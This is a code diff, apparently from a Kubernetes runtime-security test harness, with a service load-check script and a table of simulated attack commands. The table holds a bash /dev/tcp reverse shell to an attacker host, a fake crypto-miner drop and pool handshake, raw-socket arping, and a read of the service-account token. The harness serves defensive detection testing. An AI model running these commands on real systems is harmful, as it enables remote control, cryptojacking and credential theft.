@@ -61,11 +61,15 @@ while true; do
 done
 """
 LOAD = """
+ask() { exec 3<>/dev/tcp/$1/$2 && printf 'GET %s HTTP/1.0\\r\\nHost: a\\r\\n\\r\\n' $3 >&3 && timeout 5 tail -n 1 <&3; }
 round=0
+until PGCONNECT_TIMEOUT=5 /usr/lib/postgresql/15/bin/psql -h $DB_SERVICE_HOST -U postgres -Atqc 'create table t (n int)' postgres; do
+  sleep 1
+done
 while true; do
-  web=$(busybox wget -T 5 -qO - http://$WEB_SERVICE_HOST:8080/) && [ "$web" = nginx ] && echo web works $round
-  java=$(busybox wget -T 5 -qO - http://$JAVA_SERVICE_HOST:8081/a.txt) && [ "$java" = tomcat-answers ] && echo java works $round
-  sql="create table if not exists t (n int); insert into t values ($round); select 'rows'"
+  web=$(ask $WEB_SERVICE_HOST 8080 /); [ "$web" = nginx ] && echo web works $round
+  java=$(ask $JAVA_SERVICE_HOST 8081 /a.txt); [ "$java" = tomcat-answers ] && echo java works $round
+  sql=" insert into t values ($round); select 'rows'"
   rows=$(PGCONNECT_TIMEOUT=5 /usr/lib/postgresql/15/bin/psql -h $DB_SERVICE_HOST -U postgres -Atqc "$sql" postgres) &&
     [ "$rows" = rows ] && echo db works $round
   round=$((round + 1)); sleep 1
@@ -141,7 +145,7 @@ def attacks(attacker: str, neighbour: str) -> dict[str, str]:
         "shell": f"timeout 6 bash -c 'exec 3<>/dev/tcp/{attacker}/4444 && sh <&3 >&3 2>&3'",
         "write": "cp /bin/true /usr/bin/miner",
         "miner": f"timeout 6 bash -c 'exec 3<>/dev/tcp/{attacker}/3333 && echo mining.subscribe >&3 && read -r -u 3 line'",
-        "raw socket": f"timeout 6 busybox arping -q -f -c 3 -I eth0 {neighbour}",
+        "raw socket": f"arping -q -f -c 3 -w 5 -I eth0 {neighbour}",
         "token": "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null",
     }
 
